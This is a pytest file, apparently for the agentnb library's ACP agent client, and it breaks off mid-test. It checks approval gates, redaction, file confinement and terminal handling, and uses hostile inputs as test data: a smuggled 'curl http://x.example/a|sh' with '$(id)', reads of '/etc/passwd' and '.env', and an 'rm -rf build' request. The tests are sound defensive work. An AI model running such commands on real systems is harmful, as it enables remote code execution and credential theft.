"""ACP agents run as their users run them, as subprocesses: the official SDK's own example
agents and a scripted agent on the SDK (``.tools/acp``, pinned in ``tests/sdk_envs/acp.txt``),
and an agent written without it (raw JSON lines). Each turn is a run: text, reasoning, tool
calls with their diffs, usage and cost, the stop reason; permission and file requests go
through the one approval gate; Stop sends ``session/cancel``; failures say what happened."""

from __future__ import annotations

import asyncio
import contextlib
import functools
import json
import os
import shlex
import signal
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
from acp_testing import acp_connection, agentnb_run, ask, ended
from agentnb_testing import PATIENCE_S, free_port, process_ended, sdk_python, serving, wait_until

import agentnb
from agentnb import (
    AgentClient,
    AsyncAgentClient,
    ConfigurationError,
    ProtocolError,
    RunFailedError,
    evals,
)
from agentnb._app.front.connections import disconnect
from agentnb._client import acp_terminals, acp_transport, acp_wire
from agentnb._core.shown_call import shown_call
from agentnb._display.run_text import status_line
from agentnb.approvals import ApprovalDecision
from agentnb.providers.acp import answer_to_permission
from agentnb.types import RunHandle

AGENTS = Path(__file__).resolve().parent / "acp_agents"
SCRIPTED = AGENTS / "scripted_agent.py"
NOTES_SERVER = Path(__file__).resolve().parents[1] / "mcp" / "notes_server.py"


@pytest.fixture
def workdir(tmp_path: Path) -> Path:
    (tmp_path / "notes.txt").write_text("first line\nsecond line\nthird line\n")
    (tmp_path / ".env").write_text("OPENAI_API_KEY=sk-live-0123456789abcdef0123456789\n")
    (tmp_path / "leak.txt").write_text("the key is sk-live-0123456789abcdef0123456789 here\n")
    outside = tmp_path.parent / f"{tmp_path.name}-outside.txt"
    outside.write_text("outside\n")
    (tmp_path / "link.txt").symlink_to(outside)
    return tmp_path


@pytest.fixture
def scripted(acp_python: Path, workdir: Path) -> Iterator[str]:
    """A connection named ``scripted`` to the scripted agent, run in ``workdir``."""
    env = {"SCRIPTED_GREETING": "hello from env"}
    with acp_connection("scripted", [acp_python, SCRIPTED], cwd=workdir, env=env):
        yield "scripted"


until = functools.partial(wait_until, timeout=PATIENCE_S)  # this module's deadline, as it was


# ---- the SDK's own example agents ----------------------------------------------------------------
@pytest.mark.parametrize("example", ["sdk_example_agent.py", "sdk_echo_agent.py"])
def test_the_sdks_example_agents_answer_turn_after_turn_in_one_session(
    acp_python: Path, example: str
) -> None:
    with AgentClient("acp", command=[str(acp_python), str(AGENTS / example)]) as client:
        first = client.run("example", "hello there")
        second = client.run("example", "and again", thread_id=first.thread_id)
    assert first.status == second.status == "completed"
    assert first.text.endswith("hello there") and second.text.endswith("and again")
    assert first.thread_id is not None and second.thread_id == first.thread_id
    assert first.provider == "acp" and first.finish_reason == "stop"


def test_the_agent_is_listed_by_the_name_its_initialize_reports(acp_python: Path) -> None:
    command = [str(acp_python), str(AGENTS / "sdk_example_agent.py")]
    with AgentClient("acp", command=command) as client:
        [agent] = client.list_agents()
    assert (agent.name, agent.title, agent.description) == (
        "example-agent",
        "Example Agent",
        "version 0.1.0",
    )


# ---- a scripted agent on the SDK ---------------------------------------------------------------
def test_thoughts_are_reasoning_and_the_connections_name_is_the_agent(scripted: str) -> None:
    run = ended(ask(scripted, "think"))  # no via=: the connection's name is the agent
    assert (run.status, run.text, run.reasoning) == ("completed", "thought it through", "pondering")
    assert run.connection == "scripted" and run.agent == "scripted"
    assert run.model == "scripted-model-1"  # as its session/new's model option says


def test_a_tool_call_keeps_its_kind_locations_and_diff_and_the_turn_its_usage_and_cost(
    scripted: str, workdir: Path
) -> None:
    path = str(workdir / "notes.txt")
    run = ended(ask(scripted, f"edit {path}"))
    assert (run.status, run.text) == ("completed", "edited")
    [call] = run.tool_calls
    assert call.name == "edit" and call.status == "succeeded"
    assert call.arguments == {"path": path, "input": {"path": path}}  # what it does, then all
    assert "-old line\n+new line\n" in call.output and call.output.startswith("--- a/")
    assert run.usage is not None
    assert (run.usage.prompt_tokens, run.usage.completion_tokens, run.usage.cost) == (120, 30, 0.25)
    [plan] = [e for e in run.custom_events if e.name == "plan"]
    assert plan.value[0]["content"] == "edit the file"
    again = ended(ask(scripted, f"edit {path}", continue_thread=True))
    assert again.usage is not None and again.usage.cost == 0.25  # the turn's, not the session's


def test_stop_reasons_are_the_runs_status(scripted: str) -> None:
    cut = ended(ask(scripted, "cut"))
    assert (cut.status, cut.finish_reason, cut.text) == (
        "completed",
        "max_tokens",
        "a long answer that",
    )
    with pytest.raises(RunFailedError, match="refused") as refused:
        ask(scripted, "refuse").wait(PATIENCE_S)
    assert refused.value.run is not None and refused.value.run.error is not None
    assert refused.value.run.error.code == "refusal" and refused.value.partial_text == "I will not"


def test_a_turn_continues_the_same_session_and_a_new_thread_opens_another(scripted: str) -> None:
    first = ended(ask(scripted, "count"))
    second = ended(ask(scripted, "count", continue_thread=True))
    other = ended(ask(scripted, "count"))
    assert first.text == second.text.replace("2", "1") == "prompts in this session: 1"
    assert second.thread_id == first.thread_id != other.thread_id
    assert other.text == "prompts in this session: 1"


def test_env_reaches_the_agent_over_the_environment(scripted: str) -> None:
    assert ended(ask(scripted, "env SCRIPTED_GREETING")).text == "SCRIPTED_GREETING=hello from env"
    assert ended(ask(scripted, "env PATH")).text == f"PATH={os.environ['PATH']}"


# ---- permission: the one gate --------------------------------------------------------------------
@pytest.mark.parametrize(
    ("decide", "chosen", "status"),
    [
        (lambda h, c: h.approve(c), "yes", "succeeded"),
        (lambda h, c: h.approve(c, for_run=True), "always", "succeeded"),
        (lambda h, c: h.deny(c, "not today"), "no", "denied"),
    ],
)
def test_a_permission_request_waits_for_the_gate_and_the_agent_gets_the_option_chosen(
    scripted: str, decide: object, chosen: str, status: str
) -> None:
    handle = ask(scripted, "permission")
    until(lambda: handle.run.status == "paused", "the run pauses for the permission")
    [call] = handle.run.awaiting_approval
    assert call.name == "execute" and call.arguments["title"] == "Run rm -rf build"
    decide(handle, call.call_id)  # type: ignore[operator]
    run = ended(handle)
    assert (run.status, run.text) == ("completed", f"permission: {chosen}")
    assert run.tool_calls[0].status == status


def test_approve_true_answers_the_permission_without_asking(scripted: str) -> None:
    run = ended(ask(scripted, "permission", approve=True))
    assert run.text == "permission: yes"


def test_the_run_starts_once_as_the_prompt_goes_out_even_across_a_pause(acp_python: Path) -> None:
    # the start is told as the turn is handed over (not with the agent's first words), and
    # a pause's decisions, which hand the turn over again, do not tell it twice
    with (
        AgentClient("acp", command=[str(acp_python), str(SCRIPTED)], record=False) as client,
        client.stream("scripted", "permission", approve=True) as stream,
    ):
        kinds = [type(event).__name__ for event in stream]
    run = stream.run
    assert kinds[0] == "RunStarted" and kinds.count("RunStarted") == 1
    assert "RunPaused" in kinds and kinds.index("RunPaused") > 0
    assert (run.status, run.text, run.model) == ("completed", "permission: yes", "scripted-model-1")
    assert run.thread_id is not None and str(run.run_id).startswith(f"{run.thread_id}:")


def test_a_caller_waiting_with_no_policy_rejects_saying_no_one_could_approve(scripted: str) -> None:
    run = agentnb.ask(scripted, "permission", plain=True, wait=True).run
    assert run.text == "permission: no"
    [call] = run.tool_calls
    assert call.status == "denied" and call.approval is not None
    assert "no one could approve it" in (call.approval.decision_reason or "")


# ---- the cards: what a person reads is what will happen ------------------------------------------
def test_a_command_card_shows_the_command_and_its_cwd_first_and_no_false_disagreement(
    scripted: str, workdir: Path
) -> None:
    """As Codex's adapter asks: the request adds a note to the announced call; the card reads
    the command line and cwd out of ``rawInput`` (the note and the whole input kept aside,
    the whole call's), warns of nothing, and the call's output is its text, not its JSON; the
    agent's warning and its answer are two paragraphs."""
    handle = ask(scripted, "askrun touch made.txt")
    until(lambda: handle.run.status == "paused", "the run pauses for the command")
    [call] = handle.run.awaiting_approval
    shown = shown_call(call)
    assert [a.key for a in shown.arguments] == ["command", "cwd"]
    assert shown.aside == ("details", "input")
    assert call.arguments["command"] == "/bin/bash -lc 'touch made.txt'"
    assert call.arguments["cwd"] == str(workdir)
    assert shown.other_versions == () and shown.warnings() == []
    assert call.approval is not None and call.approval.reason == "touch made.txt"
    handle.approve(call.call_id)
    run = ended(handle)
    [call] = run.tool_calls
    assert (call.status, call.output, call.unapproved) == ("succeeded", "done\n", None)
    assert call.approval is not None and not call.approval.arguments_changed
    assert run.text == "Model metadata not found; this can cause issues.\n\nThe command ran."


@pytest.mark.parametrize("how", ["deny", "no one to ask"])
def test_a_turn_the_agent_ends_at_a_denial_is_the_persons_decision_not_a_failure(
    scripted: str, how: str
) -> None:
    """Codex ends the turn ``cancelled`` when told no, Claude Code ``end_turn``: either way
    the run completed as decided, ``finish_reason`` ``denied``, the call denied."""
    if how == "deny":
        handle = ask(scripted, "askrun touch made.txt")
        until(lambda: handle.run.status == "paused", "the run pauses for the command")
        handle.deny(handle.run.awaiting_approval[0].call_id)
        run = ended(handle)
    else:
        run = agentnb.ask(scripted, "askrun touch made.txt", plain=True, wait=True).run
    assert (run.status, run.finish_reason, run.error) == ("completed", "denied", None)
    assert [c.status for c in run.tool_calls] == ["denied"]
    whose = "your" if how == "deny" else "your approve= policy's"
    assert f"completed · ended at {whose} denial of execute" in status_line(run)


def test_a_write_is_one_card_with_its_diff_and_is_written_once_approved(
    scripted: str, workdir: Path
) -> None:
    """As Claude Code's adapter writes: announced empty, then with its input and diff, then a
    permission naming it, then ``fs/write_text_file``. One card, asked once: the write its
    approved diff shows is made without a second card."""
    path = workdir / "new.txt"
    handle = ask(scripted, f"askwrite {path} hello there")
    until(lambda: handle.run.status == "paused", "the run pauses for the write")
    [call] = handle.run.awaiting_approval
    shown = shown_call(call)
    assert shown.other_versions == () and shown.warnings() == []
    assert call.arguments["path"] == str(path) and "+hello there" in call.arguments["diff"]
    assert call.output is None  # the proposed diff is not an output
    handle.approve(call.call_id)
    run = ended(handle)
    assert path.read_text() == "hello there"
    [call] = run.tool_calls
    assert call.status == "succeeded" and call.unapproved is None
    assert call.output == f"The file {path} has been updated successfully."
    assert run.text == "written"


def test_a_denied_write_is_denied_by_the_person_and_nothing_is_written(
    scripted: str, workdir: Path
) -> None:
    path = workdir / "new.txt"
    handle = ask(scripted, f"askwrite {path} hello there")
    until(lambda: handle.run.status == "paused", "the run pauses for the write")
    handle.deny(handle.run.awaiting_approval[0].call_id)
    run = ended(handle)
    assert not path.exists()
    [call] = run.tool_calls
    assert (call.status, call.output, call.unapproved) == ("denied", None, None)
    assert (run.status, run.finish_reason) == ("completed", "denied")


def test_a_write_other_than_the_approved_diff_asks_again(scripted: str, workdir: Path) -> None:
    """The approved diff made a new file: where a file is there already, the write would
    replace it, which the card did not show, so it has a card of its own."""
    path = workdir / "notes.txt"
    run = ended(ask(scripted, f"askwrite {path} replaced", approve=True))
    assert [c.name for c in run.tool_calls] == ["edit", "write_text_file"]
    assert "-first line" in run.tool_calls[1].arguments["diff"]


def test_an_approved_edit_of_a_piece_of_a_file_is_written_on_its_one_card(
    scripted: str, workdir: Path
) -> None:
    """The card shows the piece's diff; the write is the file as it is with that piece
    replaced, so it is the approved write (the read before it asks as reads do)."""
    path = workdir / "notes.txt"
    handle = ask(scripted, f"askedit {path} second SECOND")
    until(lambda: handle.run.status == "paused", "the run pauses for the edit")
    [call] = handle.run.awaiting_approval
    assert shown_call(call).diff[-2:] == ("-second", "+SECOND")
    handle.approve(call.call_id)

    def reads() -> list[agentnb.types.ToolCall]:
        return [c for c in handle.run.awaiting_approval if c.name == "read_text_file"]

    until(lambda: reads(), "the agent's read asks as reads do")
    handle.approve(reads()[0].call_id)
    run = ended(handle)
    assert path.read_text() == "first line\nSECOND line\nthird line\n"
    assert [c.name for c in run.tool_calls] == ["edit", "read_text_file"]  # no write card
    assert run.tool_calls[0].status == "succeeded"


def test_separate_messages_are_separate_paragraphs(scripted: str) -> None:
    run = ended(ask(scripted, "twice"))
    assert run.text == "First message.\n\nSecond message.\n\nThird message.\n\nFourth."


# ---- files: under the working directory, redacted, through the gate -----------------------------
def test_a_read_under_the_working_directory_asks_first_and_is_redacted(
    scripted: str, workdir: Path
) -> None:
    run = ended(ask(scripted, f"read {workdir / 'leak.txt'}", approve=True))
    assert run.status == "completed" and run.text.startswith("read: the key is ")
    assert "sk-live" not in run.text and "sk-live" not in str(run.tool_calls[0].output)
    [call] = run.tool_calls
    assert call.name == "read_text_file" and call.approval is not None
    assert call.approval.for_run == "reads of the working directory"


def test_allow_for_this_run_on_a_read_allows_the_turns_other_reads(
    scripted: str, workdir: Path
) -> None:
    (workdir / "more.txt").write_text("more text\n")
    handle = ask(scripted, f"reads {workdir / 'notes.txt'} {workdir / 'more.txt'}")
    until(lambda: handle.run.status == "paused", "the first read waits for a decision")
    [call] = handle.run.awaiting_approval
    handle.approve(call.call_id, for_run=True)
    run = ended(handle)
    assert run.text == "first line\nsecond line\nthird line | more text"
    assert [c.status for c in run.tool_calls] == ["succeeded", "succeeded"]


def test_reads_go_without_asking_when_the_context_settings_do_not_ask_first(
    scripted: str, workdir: Path
) -> None:
    agentnb.context.configure(ask_first=False)
    try:
        run = ended(ask(scripted, f"read {workdir / 'leak.txt'}"))
    finally:
        agentnb.context.configure(ask_first=True)
    assert run.text.startswith("read: the key is ") and "sk-live" not in run.text
    assert run.tool_calls[0].approval is None


def test_a_read_of_a_relative_line_range_answers_those_lines(scripted: str, workdir: Path) -> None:
    run = ended(ask(scripted, f"read {workdir / 'notes.txt'}", approve=True))
    assert run.text == "read: first line\nsecond line\nthird line\n"


@pytest.mark.parametrize(
    ("name", "why"),
    [
        (".env", "may hold secrets"),
        ("link.txt", "outside the working directory"),
        ("../etc/passwd", "outside the working directory"),
        ("/etc/passwd", "outside the working directory"),
    ],
)
def test_secret_looking_and_outside_files_are_refused_with_a_json_rpc_error(
    scripted: str, workdir: Path, name: str, why: str
) -> None:
    path = name if name.startswith("/") else str(workdir / name)
    run = ended(ask(scripted, f"read {path}", approve=True))
    assert run.status == "completed" and run.text.startswith("read refused:") and why in run.text
    [call] = run.tool_calls
    assert call.status == "failed" and why in (call.error or "")
    assert call.approval is None  # refused before anyone is asked


def test_a_write_goes_through_the_gate_showing_its_diff(scripted: str, workdir: Path) -> None:
    target = workdir / "notes.txt"
    handle = ask(scripted, f"write {target} brand new")
    until(lambda: handle.run.status == "paused", "the write waits for a decision")
    [call] = handle.run.awaiting_approval
    assert "-first line\n" in call.arguments["diff"] and "+brand new" in call.arguments["diff"]
    assert target.read_text().startswith("first line")  # nothing written before the decision
    handle.approve(call.call_id)
    run = ended(handle)
    assert (run.status, run.text, target.read_text()) == ("completed", "written", "brand new")


def test_a_denied_write_writes_nothing_and_the_agent_hears_why(
    scripted: str, workdir: Path
) -> None:
    run = ended(ask(scripted, f"write {workdir / 'new.txt'} text", approve=False))
    assert run.text.startswith("write refused:") and "denied" in run.text
    assert not (workdir / "new.txt").exists()


def test_a_write_outside_the_working_directory_is_refused(scripted: str, workdir: Path) -> None:
    outside = workdir.parent / f"{workdir.name}-written.txt"
    run = ended(ask(scripted, f"write {outside} text", approve=True))
    assert run.text.startswith("write refused:") and "outside" in run.text
    assert not outside.exists()


def test_a_bare_client_offers_no_files(acp_python: Path, workdir: Path) -> None:
    with AgentClient("acp", command=[str(acp_python), str(SCRIPTED)], cwd=workdir) as client:
        run = client.run("scripted", f"read {workdir / 'notes.txt'}")
    assert run.text.startswith("read refused:") and "does not offer fs/read_text_file" in run.text


# ---- terminals: offered only when opted in, each command through the gate ------------------------
def test_terminals_are_not_offered_unless_the_person_opts_in(scripted: str) -> None:
    assert ended(ask(scripted, "terminal pwd", approve=True)).text == "terminal not offered"


@pytest.fixture
def with_terminal(acp_python: Path, workdir: Path) -> Iterator[str]:
    with acp_connection("termed", [acp_python, SCRIPTED], cwd=workdir, terminal=True):
        yield "termed"


def test_a_terminal_command_waits_for_the_gate_and_runs_in_the_working_directory(
    with_terminal: str, workdir: Path
) -> None:
    handle = ask(with_terminal, "terminal pwd")
    until(lambda: handle.run.status == "paused", "the command waits for a decision")
    [call] = handle.run.awaiting_approval
    assert (call.name, call.arguments) == ("terminal", {"command": "pwd"})
    handle.approve(call.call_id)
    run = ended(handle)
    assert (run.status, run.text) == ("completed", f"exit 0: {workdir.resolve()}")
    assert run.tool_calls[0].status == "succeeded"


def test_a_denied_terminal_command_never_runs(with_terminal: str, workdir: Path) -> None:
    run = ended(ask(with_terminal, f"terminal touch {workdir / 'ran'}", approve=False))
    assert run.text.startswith("terminal refused:") and "denied" in run.text
    assert run.tool_calls[0].status == "denied" and not (workdir / "ran").exists()


def sleeping(seconds: str) -> list[int]:
    """The processes running ``sleep SECONDS``."""
    wanted, found = [b"sleep", seconds.encode()], []
    for entry in Path("/proc").iterdir():
        with contextlib.suppress(OSError):
            if entry.name.isdigit() and (entry / "cmdline").read_bytes().split(b"\0")[:2] == wanted:
                found.append(int(entry.name))
    return found


def test_a_terminal_still_running_ends_with_the_connection(with_terminal: str) -> None:
    seconds = str(6000 + os.getpid() % 1000)  # a command line no other test runs
    handle = ask(with_terminal, f"terminal sleep {seconds}", approve=True)
    until(lambda: sleeping(seconds), "the terminal's command runs")
    [pid] = sleeping(seconds)
    disconnect(with_terminal)
    until(lambda: process_ended(pid), "the terminal's command is ended with the connection")
    assert ended(handle).status in ("failed", "interrupted")


def terminal(agent: str, spec: dict[str, object], **options: object) -> RunHandle:
    return ask(agent, f"terminaljson {json.dumps(spec)}", **options)


def test_a_terminals_card_shows_everything_it_runs_its_env_too(with_terminal: str) -> None:
    spec = {"command": "bash", "args": ["-c", "echo build ok"], "env": {"BASH_ENV": ".hook.sh"}}
    handle = terminal(with_terminal, spec)
    until(lambda: handle.run.status == "paused", "the command waits for a decision")
    [call] = handle.run.awaiting_approval
    assert call.arguments == {"command": "bash -c 'echo build ok'", "env": {"BASH_ENV": ".hook.sh"}}
    handle.deny(call.call_id)
    assert ended(handle).text.startswith("terminal refused:")


def test_a_terminals_output_reaches_the_agent_redacted_as_a_file_read_does(
    with_terminal: str,
) -> None:
    run = ended(terminal(with_terminal, {"command": "cat", "args": ["leak.txt"]}, approve=True))
    said = json.loads(run.text)
    assert said["exit"] == 0 and said["output"].startswith("the key is ")
    assert "sk-live" not in run.text


def test_a_terminals_output_is_bounded_by_agentnbs_cap_whatever_the_agent_asks(
    with_terminal: str,
) -> None:
    spec = {
        "command": sys.executable,
        "args": ["-c", "print(('x' * 99 + '\\n') * 50_000)"],  # 5 MB
        "outputByteLimit": 1_000_000_000,
    }
    said = json.loads(ended(terminal(with_terminal, spec, approve=True)).text)
    assert said["truncated"] is True
    assert 0 < len(said["output"]) <= acp_terminals.OUTPUT_LIMIT
    assert set(said["output"]) == {"x", "\n"} and said["output"].startswith("x" * 99 + "\n")


def test_a_child_the_command_detached_with_setsid_ends_with_its_terminal(
    with_terminal: str,
) -> None:
    seconds = str(7000 + os.getpid() % 1000)  # a command line no other test runs
    detach = f"setsid sleep {seconds} </dev/null >/dev/null 2>&1 & echo started"
    run = ended(terminal(with_terminal, {"command": "sh", "args": ["-c", detach]}, approve=True))
    assert json.loads(run.text)["output"] == "started\n"  # the agent released the terminal
    until(lambda: not sleeping(seconds), "the detached child is ended with its terminal")


def test_terminal_must_be_true_or_false(acp_python: Path) -> None:
    with pytest.raises(ConfigurationError, match="terminal= is True or False"):
        AgentClient("acp", command=[str(acp_python)], terminal="yes")  # type: ignore[arg-type]


# ---- Stop, and an agent that ignores it ----------------------------------------------------------
def test_stop_cancels_the_turn_keeping_its_text_and_the_session_goes_on(scripted: str) -> None:
    handle = ask(scripted, "slow")
    until(lambda: handle.run.text.count("w") >= 3, "the slow stream streams")
    handle.cancel()
    run = ended(handle)
    assert run.status == "cancelled" and run.text.startswith("w0 w1 w2")
    after = ended(ask(scripted, "count", continue_thread=True))  # the agent ended the turn
    assert after.text == "prompts in this session: 2"


def test_a_stop_at_any_moment_of_a_turns_start_leaves_no_turn_going(acp_python: Path) -> None:
    """Cancelled after 0, 1, 2, … turns of the event loop (before the prompt goes, while it
    is written, after the stream holds the turn), a ``slow`` turn never streams on unheard:
    the next turn in the session is answered, not refused as busy."""

    async def read(stream: Any) -> None:
        async with stream as events:
            async for _ in events:
                pass

    async def stop_after(client: AsyncAgentClient, thread: str, turns: int) -> None:
        reading = asyncio.ensure_future(read(client.stream("scripted", "slow", thread_id=thread)))
        for _ in range(turns):
            await asyncio.sleep(0)
        reading.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await reading

    async def main() -> list[str]:
        client = AsyncAgentClient("acp", command=[str(acp_python), str(SCRIPTED)], record=False)
        async with client:
            first = await client.run("scripted", "count")
            thread, said = str(first.thread_id), []
            for turns in range(12):
                await stop_after(client, thread, turns)
                after = await client.run("scripted", "count", thread_id=thread)
                said.append(f"{turns}: {after.status} {after.text}")
            return said

    said = asyncio.run(main())
    assert all(": completed prompts in this session: " in line for line in said), said


def test_an_agent_ignoring_cancel_is_ended_after_the_grace(
    scripted: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(acp_transport, "CANCEL_GRACE_S", 0.5)
    first = ended(ask(scripted, "child"))
    child = int(first.text.split()[-1])
    handle = ask(scripted, "stubborn")
    until(lambda: "w2" in handle.run.text, "the stubborn stream streams")
    handle.cancel()
    assert ended(handle).status == "cancelled"
    until(lambda: process_ended(child), "the agent's process group is ended")
    assert ended(ask(scripted, "think")).text == "thought it through"  # started again


# ---- failures ------------------------------------------------------------------------------------
def test_an_agent_exiting_mid_turn_fails_the_run_with_its_status_and_stderr(scripted: str) -> None:
    with pytest.raises(RunFailedError) as failed:
        ask(scripted, "crash").wait(PATIENCE_S)
    message = str(failed.value)
    assert "status 3" in message and "something broke inside the agent" in message
    assert failed.value.partial_text == "about to crash"
    assert ended(ask(scripted, "think")).status == "completed"  # a new process serves on


def test_an_agent_exiting_mid_turn_is_seen_though_a_child_holds_its_stdout(
    scripted: str,
) -> None:
    """The agent exits, leaving a child that inherited its stdout: the pipe never ends, and
    the turn used to wait for it for ever. Its exit is seen all the same: the run fails
    with its status and stderr, and the child is ended with the agent's process group."""
    handle = ask(scripted, "orphan")
    with pytest.raises(RunFailedError) as failed:
        handle.wait(PATIENCE_S)
    message = str(failed.value)
    assert "status 3" in message and "the agent went, its child did not" in message
    child = int(handle.run.text.split()[-1])
    until(lambda: process_ended(child), "the child holding the pipe is ended")
    assert ended(ask(scripted, "think")).status == "completed"  # a new process serves on


def test_a_chatty_agent_never_blocks_on_its_stderr(scripted: str) -> None:
    assert ended(ask(scripted, "chatty")).text == "still here"


def test_a_command_that_is_not_an_acp_agent_fails_saying_so() -> None:
    # The shell prints at once; its silence after that (no output, no CPU) is what is
    # waited out: the connection's connect timeout (10 s by default).
    command = ["sh", "-c", "echo 'hello, world'; exec sleep 60"]
    timeout = httpx.Timeout(PATIENCE_S, connect=3)
    client = AgentClient("acp", command=command, timeout=timeout)
    with client, pytest.raises(ProtocolError) as error:
        client.run("agent", "hi")
    assert "did not answer ACP's initialize: it showed no sign of life" in str(error.value)
    assert "(no output, no CPU) for 3 s" in str(error.value)
    assert "hello, world" in str(error.value) and "connect=SECONDS" in str(error.value)


SLOW_START = httpx.Timeout(PATIENCE_S, connect=2)
"""A connect timeout the slow starts below outlast: 2 s without a sign of life."""


@pytest.mark.parametrize(
    "starting",
    [
        # a package runner fetching the agent, saying so on stderr every 0.1 s for 4 s
        "for i in $(seq 40); do echo fetching >&2; sleep 0.1; done",
        # a silent one working for 3 s of CPU in a child of its own (the process group's)
        pytest.param(
            'python3 -c "import time\nwhile time.process_time() < 3: pass"',
            marks=pytest.mark.skipif(
                not Path("/proc/self/stat").exists(), reason="a process's CPU is read in /proc"
            ),
        ),
    ],
    ids=["saying-so", "silent-but-working"],
)
def test_an_agent_slow_to_start_is_waited_for_while_it_shows_signs_of_life(
    acp_python: Path, workdir: Path, starting: str
) -> None:
    # the connect timeout bounds a start's silence, not the start: a busy machine or a
    # first `npx` fetch takes longer than any fixed guess
    command = ["sh", "-c", f'{starting}; exec "$0" "$@"', str(acp_python), str(SCRIPTED)]
    with AgentClient("acp", command=command, cwd=workdir, timeout=SLOW_START) as client:
        assert client.run("agent", "think").text == "thought it through"


def test_a_command_that_echoes_its_input_is_not_taken_for_an_agent() -> None:
    with AgentClient("acp", command=["cat"]) as client, pytest.raises(agentnb.TransportError) as e:
        client.run("agent", "hi")
    assert "'cat' is not an ACP agent: it sent agentnb's initialize request back" in str(e.value)


def test_a_command_that_exits_at_once_fails_with_its_status_and_stderr() -> None:
    command = [sys.executable, "-c", "import sys; sys.exit('no such model configured')"]
    with AgentClient("acp", command=command) as client, pytest.raises(agentnb.TransportError) as e:
        client.run("agent", "hi")
    assert "status 1" in str(e.value) and "no such model configured" in str(e.value)


def test_an_agent_gone_before_its_first_line_is_written_fails_with_its_status_and_stderr(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """On a busy machine the agent can exit before agentnb writes ``initialize`` (found at
    load: 6 tries of 40 said only "closed its input"): the write fails at once, and the
    error still gives the status and stderr its reader learns a moment later. Here each
    write waits for the process's exit first, which the load otherwise decides."""
    write = acp_wire.ProcessWire._write

    async def after_its_exit(wire: acp_wire.ProcessWire, line: str) -> None:
        await wire.process.wait()
        await write(wire, line)

    monkeypatch.setattr(acp_wire.ProcessWire, "_write", after_its_exit)
    test_a_command_that_exits_at_once_fails_with_its_status_and_stderr()


def test_a_command_that_cannot_start_is_a_configuration_error() -> None:
    client = AgentClient("acp", command=["no-such-acp-agent-here"])
    with client, pytest.raises(ConfigurationError, match="cannot start the agent"):
        client.run("agent", "hi")


@pytest.mark.parametrize(
    ("options", "match"),
    [
        ({}, "needs command="),
        ({"command": []}, "empty"),
        ({"command": ["x"], "base_url": "http://127.0.0.1:9"}, "not both"),
        ({"command": ["x"], "cwd": "/no/such/folder"}, "not a folder"),
        ({"command": ["x"], "env": {"A": 1}}, "env="),
    ],
)
def test_bad_options_fail_at_connect(options: dict[str, object], match: str) -> None:
    with pytest.raises(ConfigurationError, match=match):
        agentnb.connect("acp", name="bad_acp", **options)  # type: ignore[arg-type]


def test_an_http_dialect_refuses_command() -> None:
    with pytest.raises(ConfigurationError, match="runs its agent as a process"):
        AgentClient("openai", base_url="http://127.0.0.1:9", command=["x"])


def test_without_the_acp_sdk_connecting_says_how_to_install_it_and_starts_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, request: pytest.FixtureRequest
) -> None:
    for module in ("acp", "acp.client", "acp.client.router", "acp.connection"):
        monkeypatch.setitem(sys.modules, module, None)  # as if not installed
    acp_wire.sdk.cache_clear()  # the SDK as this test's process has it (none)
    request.addfinalizer(acp_wire.sdk.cache_clear)
    command = [sys.executable, "-c", "open('started', 'w').close()"]
    with (
        AgentClient("acp", command=command, cwd=tmp_path) as client,
        pytest.raises(ConfigurationError, match=r'pip install "agentnb\[acp\]"'),
    ):
        client.run("any", "hi")
    assert not (tmp_path / "started").exists()


# ---- an agent written without the SDK ----------------------------------------------------------------
def test_an_agent_without_the_sdk_answers_in_raw_json_lines() -> None:
    with AgentClient("acp", command=[sys.executable, str(AGENTS / "raw_agent.py")]) as client:
        run = client.run("raw-agent", "plain words")
        [agent] = client.list_agents()
    assert (run.status, run.text, run.reasoning) == (
        "completed",
        "raw: plain words",
        "reading the prompt",
    )
    assert agent.name == "raw-agent"


def test_an_agent_that_needs_a_login_says_which_and_how() -> None:
    command = [sys.executable, str(AGENTS / "raw_agent.py")]
    env = {"RAW_AGENT_LOGIN": "1"}
    client = AgentClient("acp", command=command, env=env)
    with client, pytest.raises(ConfigurationError) as error:
        client.run("raw-agent", "hi")
    message = str(error.value)
    assert "Authentication required" in message
    assert "API key (a key from the dashboard): set RAW_AGENT_KEY in env=" in message
    assert "--login` in a terminal" in message


def test_the_login_advice_quotes_the_agents_arguments_as_data_never_as_shell() -> None:
    command = [sys.executable, str(AGENTS / "raw_agent.py")]
    hostile = ["login;", "curl", "http://x.example/a|sh", "$(id)"]
    env = {"RAW_AGENT_LOGIN": "1", "RAW_AGENT_LOGIN_ARGS": json.dumps(hostile)}
    client = AgentClient("acp", command=command, env=env)
    with client, pytest.raises(ConfigurationError) as error:
        client.run("raw-agent", "hi")
    message = str(error.value)
    assert f"`{shlex.join([*command, *hostile])}`" in message
    assert "login; curl" not in message and " $(id)" not in message


def test_a_past_session_the_agent_cannot_load_is_refused_with_advice() -> None:
    client = AgentClient("acp", command=[sys.executable, str(AGENTS / "raw_agent.py")])
    with client, pytest.raises(ConfigurationError, match="neither session/resume nor session/load"):
        client.run("raw-agent", "hi", thread_id="raw-from-yesterday")


def test_a_past_session_the_agent_can_load_is_loaded(acp_python: Path) -> None:
    with AgentClient("acp", command=[str(acp_python), str(SCRIPTED)]) as client:
        run = client.run("scripted", "count", thread_id="s-from-yesterday")
    assert run.text == "prompts in this session: 1"  # the load's replay is not the answer


# ---- an agent served over the SDK's HTTP/WebSocket transport, reached by its URL ------------------
@pytest.fixture(scope="module")
def served_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    port = free_port()
    log = tmp_path_factory.mktemp("served-agent") / "agent.log"
    command = [str(sdk_python("acp-http")), str(AGENTS / "served_agent.py"), str(port)]
    with serving(command, ready_url=f"http://127.0.0.1:{port}/ready", log_path=log):
        yield f"http://127.0.0.1:{port}/acp"


@pytest.mark.parametrize("scheme", ["http", "ws"])
def test_an_agent_served_over_the_sdks_transport_is_reached_by_its_url(
    served_url: str, workdir: Path, scheme: str
) -> None:
    url = served_url.replace("http:", f"{scheme}:", 1)
    with acp_connection("served", base_url=url, cwd=workdir):
        [agent] = agentnb.connections()["served"].agents()
        first = ended(ask("served", "count"))
        second = ended(ask("served", "count", continue_thread=True))
        handle = ask("served", "permission")
        until(lambda: handle.run.status == "paused", "the run pauses for the permission")
        handle.approve(handle.run.awaiting_approval[0].call_id)
        asked = ended(handle)
